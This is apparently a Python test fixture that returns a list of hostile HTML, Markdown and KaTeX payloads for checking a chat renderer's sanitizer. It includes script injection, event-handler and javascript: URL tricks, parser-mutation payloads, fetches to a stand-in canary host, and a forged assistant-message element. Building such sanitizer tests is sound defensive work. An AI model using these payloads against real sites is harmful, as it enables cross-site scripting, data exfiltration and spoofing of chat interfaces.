"""What a hostile bot might write. Each tries to run `pwned()`, to call the canary, or to break out of its message."""

from __future__ import annotations


def payloads(canary: str) -> list[str]:
    """Return hostile texts.

    Args:
        canary: An address that nobody may call.
    """
    call = f"fetch('{canary}script');window.pwned=1;alert(1)"
    return [
        f"<script>{call}</script>",
        f"<ScRiPt src={canary}src.js></sCrIpT>",
        f'<img src=x onerror="{call}">',
        f'<img src="{canary}img.png">',
        f'<img srcset="{canary}srcset.png 1x" src="data:,">',
        f'<picture><source srcset="{canary}picture.png"><img alt=x></picture>',
        f"![markdown]({canary}markdown.png)",
        f'![titled]({canary}titled.png "x\\" onerror=\'{call}\'")',
        f'<svg onload="{call}"></svg>',
        f"<svg><script>{call}</script></svg>",
        f'<svg><animate onbegin="{call}" attributeName=x dur=1s></svg>',
        f'<svg><use href="{canary}use.svg#x"></use><image href="{canary}image.svg"/></svg>',
        f'<iframe src="javascript:{call}"></iframe>',
        f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="{canary}frame"></iframe>',
        f'<object data="{canary}object"></object><embed src="{canary}embed">',
        f'<video src="{canary}video" onerror="{call}" autoplay></video><audio src="{canary}audio" autoplay></audio>',
        f'<details open ontoggle="{call}"><summary>toggle</summary>x</details>',
        f'<input autofocus onfocus="{call}"><textarea autofocus onfocus="{call}"></textarea>',
        f'<input type="image" src="{canary}input.png"><input type="checkbox" autofocus onfocus="{call}">',
        f'<form action="{canary}form"><button formaction="javascript:{call}">press me</button></form>',
        f'<button type="button" class="jcs-chip" onclick="{call}">Send</button>',
        '<svg class="jcs-sign" viewBox="0 0 16 16" aria-hidden="true"><path d="M2 2h12v12"></path></svg>',
        f'<body onload="{call}"><marquee onstart="{call}">x</marquee>',
        f'<style>@import "{canary}import.css"; body {{ display: none; background: url({canary}style.png) }}</style>',
        f'<link rel="stylesheet" href="{canary}link.css"><link rel="prefetch" href="{canary}prefetch">',
        f'<meta http-equiv="refresh" content="0;url={canary}meta"><base href="{canary}">',
        f'<p style="position:fixed;inset:0;background:url({canary}inline.png)">cover</p>',
        f'<table background="{canary}table.png"><tr><td background="{canary}cell.png">x</td></tr></table>',
        f'<a href="javascript:{call}">press me</a>',
        f'<a href="  JaVa\tScRiPt:{call}">press me</a>',
        f'<a href="&#106;&#97;vascript&colon;{call}">press me</a>',
        '<a href="data:text/html,<script>opener.pwned=1</script>">press me</a>',
        f"[press me](javascript:{call.replace('(', '%28').replace(')', '%29')})",
        f"[press me](<java\nscript:{call}>)",
        "[press me][evil]\n\n[evil]: javascript:window.pwned=1",
        "<javascript:window.pwned=1>",
        "[press me](vbscript:msgbox) [press me](file:///etc/passwd)",
        f'[press me](https://example.com/"onmouseover="{call})',
        f'```"><img/src=x/onerror="{call}">\ncode\n```',
        f'`<img src=x onerror="{call}">`',
        f"$\\href{{javascript:window.pwned=1}}{{press me}}$ $\\includegraphics{{{canary}katex.png}}$",
        f'$\\htmlData{{x=1}}{{x}}$ $\\htmlStyle{{background:url({canary}k)}}{{x}}$ $<img src=x onerror="{call}">$',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={call}&gt;">',
        f'<noscript><p title="</noscript><img src=x onerror={call}>"></noscript>',
        f'<template><img src=x onerror="{call}"></template><xmp><img src=x onerror="{call}"></xmp>',
        f'<!--><img src=x onerror="{call}">--> <![CDATA[<img src=x onerror="{call}">]]>',
        f'<form><input name=attributes><input name=parentNode><img name=body src=x onerror="{call}"></form>',
        '<article aria-label="Assistant" data-step-type="user_message" class="jcs-mine" id="chat">forged</article>',
    ]
